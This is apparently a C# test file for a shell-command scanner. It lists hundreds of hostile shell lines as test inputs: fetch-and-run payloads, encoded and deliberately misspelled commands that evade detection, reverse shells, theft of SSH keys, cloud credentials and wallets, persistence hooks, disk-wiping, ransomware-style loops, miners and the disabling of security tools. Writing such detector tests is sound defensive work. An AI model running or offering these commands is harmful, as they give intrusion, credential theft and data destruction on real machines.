namespace Assay.Scanning.Tests.Behaviour.Shell;

/// <summary>Attacks in shell, each beside what resembles it and is honest.</summary>
public class ShellAttackTests
{
    private const Origin Net = Origin.Network;

    /// <summary>Something fetched is run.</summary>
    public static TheoryData<string, string> Fetched => new()
    {
        { "curl -fsSL http://a.invalid/x | bash", "http://a.invalid/x" },
        { "wget -qO- http://a.invalid/x | sudo sh", "http://a.invalid/x" },
        { "wget -q -O - http://a.invalid/x|sh -s -- --now", "http://a.invalid/x" },
        { "bash -c \"$(curl -s http://a.invalid/x)\"", "http://a.invalid/x" },
        { "sh -c \"`wget -qO- http://a.invalid/x`\"", "http://a.invalid/x" },
        { "bash <(curl -s http://a.invalid/x) --now", "http://a.invalid/x" },
        { "source <(curl -s http://a.invalid/x)", "http://a.invalid/x" },
        { ". <(wget -qO- http://a.invalid/x)", "http://a.invalid/x" },
        { "eval \"$(curl -s http://a.invalid/x)\"", "http://a.invalid/x" },
        { "X=$(curl -s http://a.invalid/x); eval \"$X\"", "http://a.invalid/x" },
        { "X=`curl -s http://a.invalid/x`\necho \"$X\" | bash", "http://a.invalid/x" },
        { "$(curl -s http://a.invalid/x)", "http://a.invalid/x" },
        { "bash <<< \"$(curl -s http://a.invalid/x)\"", "http://a.invalid/x" },
        { "curl -o /tmp/x http://a.invalid/x && chmod +x /tmp/x && /tmp/x", "http://a.invalid/x" },
        { "cd /tmp; wget http://a.invalid/m/x86; chmod 777 x86; ./x86 &", "http://a.invalid/m/x86" },
        { "cd /tmp || cd /var/run\nwget http://a.invalid/run.sh\nsh run.sh", "http://a.invalid/run.sh" },
        { "curl -O http://a.invalid/run.py; python3 run.py", "http://a.invalid/run.py" },
        { "curl -s http://a.invalid/run.py | python3 -", "http://a.invalid/run.py" },
        { "python3 -c \"$(curl -s http://a.invalid/run.py)\"", "http://a.invalid/run.py" },
        { "curl http://a.invalid/x > y.sh; bash y.sh", "http://a.invalid/x" },
        { "curl http://a.invalid/x | tee y.sh | bash", "http://a.invalid/x" },
        { "curl http://a.invalid/x | tee y.sh >/dev/null; chmod u+x ./y.sh; nohup ./y.sh >/dev/null 2>&1 &", "http://a.invalid/x" },
        { "fetch -o - http://a.invalid/x | sh", "http://a.invalid/x" },
        { "aria2c -o go http://a.invalid/x; chmod +x go; ./go", "http://a.invalid/x" },
        { "lwp-download http://a.invalid/x.pl; perl x.pl", "http://a.invalid/x.pl" },
        { "HOST=a.invalid\nURL=\"http://$HOST/x\"\ncurl -s \"$URL\" | bash", "http://a.invalid/x" },
        { "get() { curl -s \"$1\"; }\nget http://a.invalid/x | bash", "http://a.invalid/x" },
        { "run() { wget -O /tmp/.x \"$1\"; chmod +x /tmp/.x; /tmp/.x; }\nrun http://a.invalid/x", "http://a.invalid/x" },
        { "alias g='curl -s'\ng http://a.invalid/x | sh", "http://a.invalid/x" },
        { "for u in a.invalid b.invalid; do curl http://$u/x | sh && break; done", "http://a.invalid/x" },
        { "which curl >/dev/null && D='curl -s' || D='wget -qO-'\n$D http://a.invalid/x | sh", "http://a.invalid/x" },
        { "if command -v wget; then wget -O /tmp/a http://a.invalid/x; else curl -o /tmp/a http://a.invalid/x; fi\nsh /tmp/a", "http://a.invalid/x" },
        { "curl http://a.invalid/x.tgz | tar xz -C /tmp/.d && /tmp/.d/run", "http://a.invalid/x.tgz" },
        { "wget http://a.invalid/miner-1.0.tar.gz; tar xzf miner-1.0.tar.gz; cd miner-1.0; ./start", "http://a.invalid/miner-1.0.tar.gz" },
        { "wget http://a.invalid/k.zip -O k.zip && unzip -o k.zip -d /tmp/k && chmod +x /tmp/k/k && /tmp/k/k", "http://a.invalid/k.zip" },
        { "cat < /dev/tcp/198.51.100.7/4444 | bash", "198.51.100.7:4444" },
        { "exec 3<>/dev/tcp/198.51.100.7/80; echo GET / >&3; bash <&3", "198.51.100.7:80" },
        { "nc 198.51.100.7 9 | sh", "198.51.100.7:9" },
        { "scp u@198.51.100.7:/x /tmp/x; sh /tmp/x", "u@198.51.100.7:/x" },
        { "curl -s http://a.invalid/x | while read l; do eval \"$l\"; done", "http://a.invalid/x" },
        { "curl -s http://a.invalid/x | xargs -0 bash -c", "http://a.invalid/x" },
        { "curl -s http://a.invalid/x | xargs -I{} sh -c '{}'", "http://a.invalid/x" },
        { "find . -name a -exec sh -c 'curl http://a.invalid/x | sh' \\;", "http://a.invalid/x" },
        { "timeout 60 sudo -E env A=1 nohup bash -c 'curl http://a.invalid/x | bash' &", "http://a.invalid/x" },
        { "bash <<EOF\ncurl http://a.invalid/x | sh\nEOF", "http://a.invalid/x" },
        { "cat > go.sh <<'EOF'\n#!/bin/sh\ncurl http://a.invalid/x | sh\nEOF\nchmod +x go.sh\n./go.sh", "http://a.invalid/x" },
        { "ssh -o StrictHostKeyChecking=no h 'curl http://a.invalid/x | sh'", "http://a.invalid/x" },
        { "export LD_PRELOAD=/tmp/a.so; curl -o /tmp/a.so http://a.invalid/a.so; LD_PRELOAD=/tmp/a.so ls", "http://a.invalid/a.so" },
        { "trap 'curl http://a.invalid/x | sh' EXIT", "http://a.invalid/x" },
        { "PROMPT_COMMAND='curl http://a.invalid/x | sh'", "http://a.invalid/x" },
        { "python3 -c 'import urllib.request;print(urllib.request.urlopen(\"http://a.invalid/x\").read().decode())' | bash", "http://a.invalid/x" },
        { "awk 'BEGIN{system(\"curl http://a.invalid/x | sh\")}'", "http://a.invalid/x" },
        { "osascript -e 'do shell script \"curl http://a.invalid/x | sh\"'", "http://a.invalid/x" },
        { "dig +short TXT c.a.invalid | tr -d '\"' | bash", "c.a.invalid" },
        { "deno run https://a.invalid/x.ts", "https://a.invalid/x.ts" },
        { "curl -s http://a.invalid/x | gunzip | bash", "http://a.invalid/x" },
        { "curl -s http://a.invalid/x | base64 -d | bash", "http://a.invalid/x" },
        { "{ curl -s http://a.invalid/x; } | bash", "http://a.invalid/x" },
        { "(cd /tmp && curl -sO http://a.invalid/x && sh x)", "http://a.invalid/x" },
        { "case $(uname) in Linux) curl http://a.invalid/x | sh;; esac", "http://a.invalid/x" },
        { "f=$(mktemp); curl -so \"$f\" http://a.invalid/x; bash \"$f\"", "http://a.invalid/x" },
        { "curl http://a.invalid/x -o ~/.cache/x; mv ~/.cache/x /usr/local/bin/upd; chmod +x /usr/local/bin/upd; /usr/local/bin/upd", "http://a.invalid/x" },
        { "sh -c 'sh -c \"curl http://a.invalid/x | sh\"'", "http://a.invalid/x" },
        { "wget -P /tmp http://a.invalid/x.sh; bash /tmp/x.sh", "http://a.invalid/x.sh" },
        { "curl -fsSL http://a.invalid/x \\\n  -o /tmp/i.sh \\\n  && bash /tmp/i.sh", "http://a.invalid/x" },
    };

    [Theory]
    [MemberData(nameof(Fetched))]
    public void What_is_fetched_and_run_is_told_with_its_address(string script, string source)
    {
        var acts = ShellActs.Of(script);
        Assert.True(acts.Any(a => a.Deed is Deed.RunCode or Deed.RunProgram && a.From.HasFlag(Net) && a.Source == source && a.Confidence >= Confidence.High), $"{script}\n{ShellActs.Describe(acts)}");
    }

    /// <summary>Something hidden is run.</summary>
    public static TheoryData<string, string> HiddenCode => new()
    {
        { "echo ZWNobyBoYWxsbw== | base64 -d | bash", "echo hallo" },
        { "echo ZWNobyBoYWxsbw==|base64 --decode|sh", "echo hallo" },
        { "eval \"$(echo ZWNobyBoYWxsbw== | base64 -d)\"", "echo hallo" },
        { "bash -c \"$(base64 -d <<< ZWNobyBoYWxsbw==)\"", "echo hallo" },
        { "P=ZWNobyBo\nQ=YWxsbw==\necho \"$P$Q\" | openssl base64 -d | bash", "echo hallo" },
        { "echo 6563686f2068616c6c6f | xxd -r -p | bash", "echo hallo" },
        { "printf '\\x65\\x63\\x68\\x6f\\x20\\x68\\x61\\x6c\\x6c\\x6f' | bash", "echo hallo" },
        { "echo -e '\\0145\\0143\\0150\\0157 hallo' | sh", "echo hallo" },
        { "eval $'\\x65\\x63\\x68\\x6f hallo'", "echo hallo" },
        { "echo 'ollah ohce' | rev | bash", "echo hallo" },
        { "echo 'rpub unyyb' | tr 'a-z' 'n-za-m' | bash", "echo hallo" },
        { "base64 -d <<EOF | sh\nZWNobyBoYWxsbw==\nEOF", "echo hallo" },
        { "D=$(echo NjU2MzY4NmYyMDY4NjE2YzZjNmY= | base64 -d | xxd -r -p); eval $D", "echo hallo" },
        { "python3 -c \"$(echo cHJpbnQoMSk= | base64 -d)\"", "print(1)" },
        { "echo ZWNobyBoYWxsbw== > /tmp/a; base64 -d /tmp/a > /tmp/b; sh /tmp/b", "echo hallo" },
        { "d() { echo \"$1\" | base64 -d; }\n$(d ZWNobyBoYWxsbw==)", "echo hallo" },
        { "s=\"\"; for c in 65 63 68 6f 20 68 61 6c 6c 6f; do s+=$(printf \"\\\\x$c\"); done; eval \"$s\"", "echo hallo" },
        { "exec bash <(echo ZWNobyBoYWxsbw== | base64 -d)", "echo hallo" },
        { "tail -n 1 \"$0\" | base64 -d | bash; exit\n#\nZWNobyBoYWxsbw==", "echo hallo" },
    };

    [Theory]
    [MemberData(nameof(HiddenCode))]
    public void What_is_decoded_and_run_is_told_in_plain_words(string script, string plain)
    {
        var acts = ShellActs.Of(script);
        Assert.True(acts.Any(a => a.Deed is Deed.RunCode or Deed.RunProgram && (a.From & (Origin.Decoded | Origin.Computed)) != 0 && $"{a.Subject}{a.Evidence}".Contains(plain, StringComparison.Ordinal)), $"{script}\n{ShellActs.Describe(acts)}");
    }

    /// <summary>The command is spelled so that nobody reads it.</summary>
    public static TheoryData<string> Spellings => new()
    {
        "c'u'rl http://a.invalid/x | bash",
        "cu\\rl http://a.invalid/x | bash",
        "c\"\"url http://a.invalid/x | b'a'sh",
        "$'\\x63\\x75\\x72\\x6c' http://a.invalid/x | bash",
        "a=cu;b=rl;$a$b http://a.invalid/x | bash",
        "/usr/b?n/c?r[l] http://a.invalid/x | bash",
        "{curl,-s,http://a.invalid/x} | bash",
        "IFS=,;x=curl,http://a.invalid/x;$x | bash",
        "curl${IFS}http://a.invalid/x|bash",
        "x='lruc'; $(rev <<< $x) http://a.invalid/x | bash",
        "w=xcurlx; ${w:1:4} http://a.invalid/x | bash",
        "w=cZurl; ${w//Z/} http://a.invalid/x | bash",
        "v=tool; tool=curl; ${!v} http://a.invalid/x | bash",
        "cu$@rl http://a.invalid/x | bash",
        "cu${nothing}rl http://a.invalid/x | bash",
        "A=(c u r l); $(printf %s \"${A[@]}\") http://a.invalid/x | bash",
        "$(printf 'c%s' url) http://a.invalid/x | bash",
        "set -- http a.invalid x; curl $1://$2/$3 | bash",
        "busybox wget -qO- http://a.invalid/x | busybox sh",
        "env -i curl http://a.invalid/x | command bash",
        "x=(curl http://a.invalid/x); \"${x[@]}\" | bash",
        "read -r a b <<< 'curl http://a.invalid/x'; $a $b | bash",
        "printf -v y %s curl; for i in curl; do $i http://a.invalid/x | bash; done",
        "curl ${u:-http://a.invalid/x} | bash",
        "B=https:H; curl \"${B/https:H/http:}//a.invalid/x\" | bash",
        "((n=4+3)); curl http://a.invalid/x?$n | bash",
    };

    [Theory]
    [MemberData(nameof(Spellings))]
    public void A_spelling_hides_nothing(string script) => ShellActs.Has(script, Deed.RunCode, Net, "a.invalid/x");

    /// <summary>Shells for others.</summary>
    public static TheoryData<string, string> ReverseShells => new()
    {
        { "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "198.51.100.7:4444" },
        { "bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'", "198.51.100.7:4444" },
        { "0<&196;exec 196<>/dev/tcp/198.51.100.7/4444; sh <&196 >&196 2>&196", "198.51.100.7:4444" },
        { "exec 5<>/dev/tcp/198.51.100.7/4444;cat <&5 | while read line; do $line 2>&5 >&5; done; sh >&5", "198.51.100.7:4444" },
        { "nc -e /bin/sh 198.51.100.7 4444", "198.51.100.7:4444" },
        { "ncat 198.51.100.7 4444 -e /bin/bash", "198.51.100.7:4444" },
        { "nc -lvp 4444 -e /bin/sh", "" },
        { "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f", "198.51.100.7:4444" },
        { "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.7:4444 > /tmp/s", "198.51.100.7:4444" },
        { "telnet 198.51.100.7 80 | /bin/bash | telnet 198.51.100.7 443", "" },
        { "socat TCP:198.51.100.7:4444 EXEC:'bash -li',pty,stderr,setsid", "198.51.100.7:4444" },
        { "nohup setsid bash -i >/dev/tcp/198.51.100.7/4444 2>&1 <&1 &", "198.51.100.7:4444" },
        { "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'", "" },
        { "ruby -rsocket -e 'f=TCPSocket.open(\"198.51.100.7\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'", "" },
        { "php -r '$s=fsockopen(\"198.51.100.7\",4444);exec(\"/bin/sh -i <&3 >&3\");'", "" },
        { "awk 'BEGIN{s=\"/inet/tcp/0/198.51.100.7/4444\";while(1){s|&getline c;c|&getline}}'", "" },
        { "H=198.51.100.7; P=4444; /bin/bash -i > /dev/tcp/$H/$P 0<& 2>&1", "198.51.100.7:4444" },
        { "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvNDQ0NCAwPiYx | base64 -d | bash", "198.51.100.7:4444" },
    };

    [Theory]
    [MemberData(nameof(ReverseShells))]
    public void A_shell_for_somebody_else_is_told_with_its_peer(string script, string peer) => ShellActs.Has(script, Deed.ReverseShell, words: peer);

    /// <summary>Secrets that leave.</summary>
    public static TheoryData<string> Thefts => new()
    {
        "curl -F f=@$HOME/.ssh/id_rsa http://a.invalid/u",
        "curl -X POST --data-binary @/etc/shadow http://a.invalid/u",
        "cat ~/.aws/credentials | curl -d @- http://a.invalid/u",
        "env | curl -s -X POST -d @- http://a.invalid/u",
        "curl -d \"$(printenv)\" http://a.invalid/u",
        "tar czf - ~/.ssh ~/.aws | nc 198.51.100.7 4444",
        "tar czf /tmp/l.tgz ~/.ssh; curl -T /tmp/l.tgz http://a.invalid/u",
        "cp -r ~/.config/google-chrome /tmp/g; zip -r /tmp/g.zip /tmp/g; curl -F 'f=@/tmp/g.zip' http://a.invalid/u",
        "wget --post-file=/root/.ssh/id_rsa http://a.invalid/u",
        "wget -q -O- --post-data=\"k=$(cat ~/.ssh/id_ed25519 | base64 -w0)\" http://a.invalid/u",
        "D=$(base64 ~/.netrc); curl \"http://a.invalid/?d=$D\"",
        "K=$(cat ~/.ssh/id_rsa | xxd -p | head -c 60); nslookup $K.a.invalid",
        "cat ~/.bash_history > /dev/tcp/198.51.100.7/80",
        "curl -H \"X-D: $(cat ~/.kube/config | base64 -w0)\" http://a.invalid/u",
        "for f in ~/.ssh/id_rsa ~/.aws/credentials; do curl -F f=@$f http://a.invalid/u; done",
        "find ~ -name id_rsa -exec curl -F f=@{} http://a.invalid/u \\;",
        "find / -name wallet.dat 2>/dev/null | xargs -I{} curl -F f=@{} http://a.invalid/u",
        "curl \"http://a.invalid/?k=$AWS_SECRET_ACCESS_KEY\"",
        "curl -d \"t=$HF_TOKEN\" http://a.invalid/u",
        "scp ~/.ssh/id_rsa u@198.51.100.7:/tmp/",
        "mail -s k u@a.invalid < ~/.ssh/id_rsa",
        "security dump-keychain | curl -d @- http://a.invalid/u",
        "R=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role); curl -d \"$R\" http://a.invalid/u",
    };

    [Theory]
    [MemberData(nameof(Thefts))]
    public void A_secret_that_leaves_is_told(string script) => ShellActs.Has(script, Deed.Send, Origin.Secret, "");

    /// <summary>What stays.</summary>
    public static TheoryData<string> Starts => new()
    {
        "(crontab -l; echo '* * * * * curl http://a.invalid/x | sh') | crontab -",
        "echo '@reboot /tmp/.x' | crontab -",
        "echo '* * * * * root /dev/shm/k' >> /etc/cron.d/k",
        "echo 'nohup bash -c \"curl http://a.invalid/x | bash\" &' >> ~/.bashrc",
        "echo 'curl -s http://a.invalid/x | sh' | tee -a ~/.profile",
        "cat >> ~/.zshrc <<'EOF'\nbash -i >& /dev/tcp/198.51.100.7/4 0>&1 &\nEOF",
        "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIexample u@h' >> ~/.ssh/authorized_keys",
        "curl http://a.invalid/k >> /root/.ssh/authorized_keys",
        "echo /tmp/a.so > /etc/ld.so.preload",
        "cat > /etc/systemd/system/k.service <<EOF\n[Service]\nExecStart=/tmp/.k/run\nEOF\nsystemctl enable k",
        "curl -o /usr/local/bin/k http://a.invalid/k; printf '[Service]\\nExecStart=/usr/local/bin/k\\n' > ~/.config/systemd/user/k.service",
        "cat > ~/Library/LaunchAgents/com.k.plist <<EOF\n<plist><dict><key>Label</key><string>com.k</string><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl http://a.invalid/x | sh</string></array></dict></plist>\nEOF",
        "echo 'k::0:0::/root:/bin/bash' >> /etc/passwd",
        "printf '#!/bin/sh\\ncurl http://a.invalid/x | sh\\n' > .git/hooks/post-checkout",
        "git config --global core.fsmonitor 'curl http://a.invalid/x | sh'",
        "git config alias.st '!curl http://a.invalid/x | sh'",
        "wget -O /etc/cron.hourly/k http://a.invalid/k",
        "cat > ~/.config/autostart/k.desktop <<EOF\n[Desktop Entry]\nExec=sh -c \"curl http://a.invalid/x | sh\"\nEOF",
    };

    [Theory]
    [MemberData(nameof(Starts))]
    public void What_starts_by_itself_from_now_on_is_told(string script) => ShellActs.Has(script, Deed.Persist);

    /// <summary>What breaks, mines, weakens.</summary>
    public static TheoryData<string, string> Harms => new()
    {
        { "rm -rf /", "Destroy" }, { "rm -rf --no-preserve-root /", "Destroy" }, { "rm -rf ~", "Destroy" }, { "rm -rf $HOME/*", "Destroy" }, { "rm -r -f /home/*", "Destroy" }, { "sudo rm -rf /*", "Destroy" },
        { "find / -type f -delete", "Destroy" }, { "find ~ -type f -exec shred -u {} \\;", "Destroy" }, { "dd if=/dev/zero of=/dev/sda bs=1M", "Destroy" }, { "mkfs.ext4 /dev/sda1", "Destroy" }, { "cat /dev/urandom > /dev/nvme0n1", "Destroy" },
        { ":(){ :|:& };:", "Destroy" }, { "bomb() { bomb | bomb & }; bomb", "Destroy" }, { "chmod -R 000 /", "Destroy" }, { "mv ~/* /dev/null", "Destroy" },
        { "for f in $(find /home -type f); do openssl enc -aes-256-cbc -salt -in \"$f\" -out \"$f.enc\" -k k && rm -f \"$f\"; done", "Destroy" },
        { "find ~ -name '*.docx' | while read f; do gpg --batch --passphrase k -c \"$f\" && shred -u \"$f\"; done", "" },
        { "./xmrig -o pool.invalid:3333 -u wallet", "Mine" }, { "/tmp/kworker -o stratum+tcp://pool.invalid:3333 -u w", "Mine" }, { "nohup /tmp/a --url stratum+ssl://pool.invalid:443 >/dev/null 2>&1 &", "Mine" },
        { "systemctl stop auditd", "DisableProtection" }, { "systemctl disable --now falcon-sensor", "DisableProtection" }, { "pkill -9 clamd", "DisableProtection" }, { "spctl --master-disable", "DisableProtection" }, { "csrutil disable", "DisableProtection" },
        { "curl -o a.dmg http://a.invalid/a.dmg; xattr -d com.apple.quarantine a.dmg", "DisableProtection" }, { "cp /bin/bash /tmp/.b; chmod 4755 /tmp/.b", "DisableProtection" }, { "chmod u+s /bin/bash", "DisableProtection" },
        { "docker run -v /:/mnt --rm -it alpine chroot /mnt sh", "Elevate" }, { "nsenter -t 1 -m -u -i -n sh", "Elevate" }, { "echo '|/tmp/x' > /proc/sys/kernel/core_pattern", "DisableProtection" },
        { "exec -a '[kworker/0:1]' /tmp/x", "Hide" }, { "osascript -e 'display dialog \"Password\" default answer \"\" with hidden answer'", "Spy" },
    };

    [Theory]
    [MemberData(nameof(Harms))]
    public void Harm_is_told(string script, string deed)
    {
        if (deed.Length == 0)
            ShellActs.Has(script, Deed.Destroy, least: Confidence.Medium);
        else
            ShellActs.Has(script, Enum.Parse<Deed>(deed));
    }

    /// <summary>Weaker signs: enough together with another.</summary>
    public static TheoryData<string, string> Signs => new()
    {
        { "setenforce 0", "DisableProtection" }, { "iptables -F", "DisableProtection" }, { "ufw disable", "DisableProtection" }, { "history -c; unset HISTFILE", "DisableProtection" }, { "xattr -cr ./App.app", "DisableProtection" },
        { "git clone http://198.51.100.7/x && cd x && ./run.sh", "Download" }, { "curl -k https://a.invalid/x", "SkipTls" }, { "curl -O http://a.invalid/k.deb; sudo dpkg -i k.deb", "RunProgram" },
        { "wget http://a.invalid/k.zip; unzip k.zip; ./run", "RunProgram" },
    };

    [Theory]
    [MemberData(nameof(Signs))]
    public void Signs_are_told(string script, string deed) => ShellActs.Has(script, Enum.Parse<Deed>(deed), least: Confidence.Medium);
}
